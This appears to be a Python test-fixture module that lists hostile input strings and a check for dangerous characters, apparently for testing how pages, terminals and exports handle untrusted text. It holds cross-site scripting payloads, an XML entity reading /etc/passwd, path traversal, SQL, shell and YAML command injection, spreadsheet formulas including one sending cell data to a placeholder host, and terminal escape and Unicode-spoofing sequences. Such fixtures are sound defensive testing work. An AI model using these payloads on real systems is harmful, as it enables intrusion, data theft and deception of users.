"""Texts that somebody else might write, to run, to load, to break out of where they stand, or to be misread.

They stand for sources, names, logs, models and answers in the tests of pages, terminals and exports.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

RUN = "alert(document.title='OWNED')"
"""The deed of a script among them: the tests look at the title, and for a dialog."""
AWAY = "//example.invalid"
"""The address from which one of them would load something, or to which it would lead."""


@dataclass(frozen=True)
class Hostile:
    """A text, and how it would do harm."""

    mechanism: str
    text: str


_ELEMENTS = (
    Hostile("a script element", f"<script>{RUN}</script>"),
    Hostile("a script element in odd letters", f"<ScRiPt\n/x>{RUN}</sCrIpT\t>"),
    Hostile("a script that is written by a script's text", f"<scr<script>ipt>{RUN}</scr</script>ipt>"),
    Hostile("the end of a script around it", f"</script><script>{RUN}</script>"),
    Hostile("a comment that changes where a script ends", f"<!--<script>{RUN}//--></script>"),
    Hostile("the end of a style around it", f"</style><script>{RUN}</script>"),
    Hostile("the end of the head around it", f'</title></head><body onload="{RUN}">'),
    Hostile("the end of a text field around it", f'</textarea><img src=x onerror="{RUN}">'),
    Hostile("the end of code and details around it", f"</code></pre></details></main><script>{RUN}</script>"),
    Hostile("the end of a comment around it", f"--><script>{RUN}</script><!--"),
    Hostile("the end of CDATA around it", f"]]><script>{RUN}</script><![CDATA["),
    Hostile(
        "a script that a browser without scripts shows",
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    ),
    Hostile("a frame with a page of its own", f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>'),
    Hostile(
        "an object with a page of its own", f'<object data="data:text/html,<script>{RUN}</script>"></object>'
    ),
    Hostile(
        "a template that is mutated when it is parsed again",
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    ),
    Hostile(
        "an element of the page's own that it replaces",
        '<form id="main" class="filter" data-table="problems-1"><input name="elements">',
    ),
)
_HANDLERS = (
    Hostile("an image that fails to load", f'<img src=x onerror="{RUN}">'),
    Hostile("the end of a double-quoted attribute", f'" autofocus onfocus="{RUN}" x="'),
    Hostile("the end of a single-quoted attribute", f"' autofocus onfocus='{RUN}' x='"),
    Hostile("the end of an unquoted attribute", f"x onmouseover={RUN} y"),
    Hostile("the end of an attribute, then a drawing", f'"><svg onload="{RUN}">'),
    Hostile("details that open by themselves", f'<details open ontoggle="{RUN}">'),
    Hostile("a marquee that starts", f'<marquee onstart="{RUN}">'),
    Hostile("a video without a source", f'<video><source onerror="{RUN}"></video>'),
)
_DRAWINGS = (
    Hostile("a script in a drawing", f"<svg><script>{RUN}</script></svg>"),
    Hostile("a script in a drawing, by a link", f'<svg><script xlink:href="data:,{RUN}"/></svg>'),
    Hostile("an animation that starts", f'<svg><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>'),
    Hostile("HTML within a drawing", f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>"),
    Hostile("a drawing that uses another one", f'<svg><use href="https:{AWAY}/x.svg#a"/></svg>'),
    Hostile("a link in a drawing", f'<svg><a xlink:href="javascript:{RUN}"><text y="9">x</text></a></svg>'),
    Hostile(
        "an entity of XML that names a file",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    ),
)
_LOADS = (
    Hostile(
        "a style sheet from elsewhere, and one that hides the page",
        f"<link rel=stylesheet href=https:{AWAY}/x.css><style>body{{display:none}}</style>",
    ),
    Hostile(
        "the end of a rule of style, then an import",
        f'}} @import "https:{AWAY}/x.css"; * {{ display: none }} x {{',
    ),
    Hostile(
        "a background from elsewhere", f'" style="position:fixed;inset:0;background:url(https:{AWAY}/a.png)'
    ),
    Hostile("an expression in style", f"width: expression({RUN}); behavior: url(#default#time2)"),
    Hostile("a page that moves on", f"<meta http-equiv=refresh content='0;url=https:{AWAY}/'>"),
    Hostile(
        "another base for links, and a form that sends",
        f"<base href=https:{AWAY}/><form action=https:{AWAY}/><input name=q>",
    ),
    Hostile(
        "an image from elsewhere in Markdown", f"![x](https:{AWAY}/a.png) <https:{AWAY}/> [y]: https:{AWAY}/"
    ),
    Hostile("a prefetch", f'<link rel="dns-prefetch preload" as=image href="{AWAY}/a.png">'),
)
_LINKS = (
    Hostile("a link to a script", f'<a href="javascript:{RUN}">click</a>'),
    Hostile("the address of a script, with white space in it", f"java\tscript\n:{RUN}"),
    Hostile("the address of a page in itself", f"data:text/html;base64,PHNjcmlwdD4=,{RUN}"),
    Hostile("a link to a script in Markdown", f"[click](javascript:{RUN}) [x](vbscript:x)"),
    Hostile("a path out of its folder", "../../../../etc/passwd%00.html"),
    Hostile("a fragment that leads elsewhere", f'#kernel-1"><script>{RUN}</script>'),
)
_LANGUAGES = (
    Hostile(
        "entities that are decoded twice", f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#62; &amp;lt;b&amp;gt;"
    ),
    Hostile(
        "escapes of JavaScript that are decoded", f"\\u003cscript\\u003e{RUN}\\x3c/script\\x3e \\74b\\76"
    ),
    Hostile(
        "letters that become < when a text is made plain",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u2039b\u203a",
    ),
    Hostile(
        "an expression of Jinja or Vue",
        "{{ ''.__class__.__mro__ }}{% set x = 1 %}{# x #}{{constructor.constructor('x')()}}",
    ),
    Hostile(
        "an expression of JavaScript's templates and of Vega", f"${{{RUN}}} `{RUN}` datum.x + event.view"
    ),
    Hostile("the end of a string of JavaScript or JSON", f'"}}]; {RUN}; //\\'),
    Hostile("lines that end for JavaScript alone", f"a\u2028{RUN}\u2029b"),
    Hostile(
        "a name that every object has", '{"__proto__": {"polluted": 1}, "constructor": {"prototype": 0}}'
    ),
    Hostile("a cell of Markdown that ends, and a heading", "| x | y |\n# z\n```\n~~~\n- [ ] *b* _c_ \\"),
    Hostile("the end of a row of CSV, and more columns", '"\r\n"a","b";c\td'),
    Hostile("a formula of a spreadsheet", f'=HYPERLINK("https:{AWAY}/?"&A1,"click")'),
    Hostile("a formula that starts a program", "@SUM(1+1)*cmd|'/C calc'!A0"),
    Hostile("a formula after a sign", "+1-2+cmd|' /C calc'!A0"),
    Hostile("a formula after white space", '\t=1+1,"-2+3'),
    Hostile("the end of a string of SQL", "'); DROP TABLE attempts; --"),
    Hostile("commands of a shell", "$(touch owned) `touch owned` ; touch owned & ' \" touch owned #"),
    Hostile(
        "the end of YAML at the head of a card", "x\n---\nlicense: !!python/object/apply:os.system ['x']\n..."
    ),
    Hostile(
        "a header, or an event of a stream, of its own",
        "x\r\nSet-Cookie: a=b\r\n\r\nevent: owned\ndata: owned\n\n",
    ),
    Hostile(
        "markup of the terminal library",
        "[red on white]x[/] [link=https:" + AWAY + "]y[/link] [/not/open] :bomb:",
    ),
    Hostile("a format of Python or C", "{0.__class__} %s%n%x {} %(x)s"),
)
_SIGNS = (
    Hostile("letters in the other direction", "abc\u202egnirts\u202c end"),
    Hostile("isolated directions, and a mark", "a\u2066b\u2067c\u2068d\u2069e\u200ef\u200fg\u061ch"),
    Hostile("a program whose shown order differs", "if x:\u202e \u2066# allowed\u2069 \u2066return\u2069"),
    Hostile("signs without width", "no\u200bth\u200cin\u200dg\u2060\ufeff\u00ad\u180e\u3164 here"),
    Hostile("letters that no screen shows", "a\U000e0041\U000e0042\U000e007fb"),
    Hostile("notes between lines, and old format signs", "a\ufff9b\ufffac\ufffbd\u206ae\u206ff"),
    Hostile("a hundred marks on one letter", "Z" + "\u0351\u0321" * 50),
    Hostile("letters of another alphabet", "p\u0430yp\u0430l s\u043eftm\u0430x"),
    Hostile("a lone half of a letter", "a\ud800b\udfffc"),
    Hostile("signs that are none", "a\ufffeb\uffffc\U0001fffed"),
)
_TERMINAL = (
    Hostile("a window's title", "\x1b]0;owned\x07 x"),
    Hostile("a cleared screen, and colours", "\x1b[2J\x1b[3J\x1b[H\x1b[31;7mred"),
    Hostile("a link on a terminal", f"\x1b]8;;https:{AWAY}/\x1b\\click\x1b]8;;\x1b\\"),
    Hostile("the clipboard of a terminal", "\x1b]52;c;b3duZWQ=\x07 x"),
    Hostile("a question that a terminal answers", '\x1b[6n\x1b[c\x1bP$q"p\x1b\\ x'),
    Hostile("controls of eight bits", "\x9b31m\x9d0;owned\x9c\x90x\x9c end"),
    Hostile("a line that is written over", "ok\rno\x08\x08\x7f\x0b\x0c\x07 end"),
    Hostile("a reset, another character set", "\x1bc\x1b(0\x0e\x1b#8 end\x1b"),
    Hostile("a zero", "a\x00b\x00"),
    Hostile("every control", "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0)))) + " end"),
)
_LONG = (
    Hostile("a very long word", "W" * 3_000),
    Hostile("a very long line of elements", "<b>" * 1_000),
    Hostile("very many lines", "x\n" * 1_000),
    Hostile("brackets that are nested deep", "[" * 500 + "(" * 500),
)
HOSTILE = (*_ELEMENTS, *_HANDLERS, *_DRAWINGS, *_LOADS, *_LINKS, *_LANGUAGES, *_SIGNS, *_TERMINAL, *_LONG)
TEXTS = tuple(hostile.text for hostile in HOSTILE)
assert len(set(TEXTS)) >= 60

HARMFUL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\ud800-\udfff"
    "\U000e0000-\U000e007f]"
)
"""Characters that steer a terminal, reorder text or hide in it; none of them is to be printed."""
OURS = re.compile(r"\x1b\[[0-9;]*m|\x1b\[(?:2K|1A)|\x1b\[\?25[lh]|\r")
"""Controls that rich writes to a terminal: colours, lines that are written anew, the cursor."""


def harmless(text: str, *, terminal: bool) -> None:
    """Fails on a character that steers; on a terminal, rich's own are allowed."""
    found = HARMFUL.search(OURS.sub("", text) if terminal else text)
    assert found is None, ascii(text[max(0, text.find(found[0]) - 200) : text.find(found[0]) + 100])
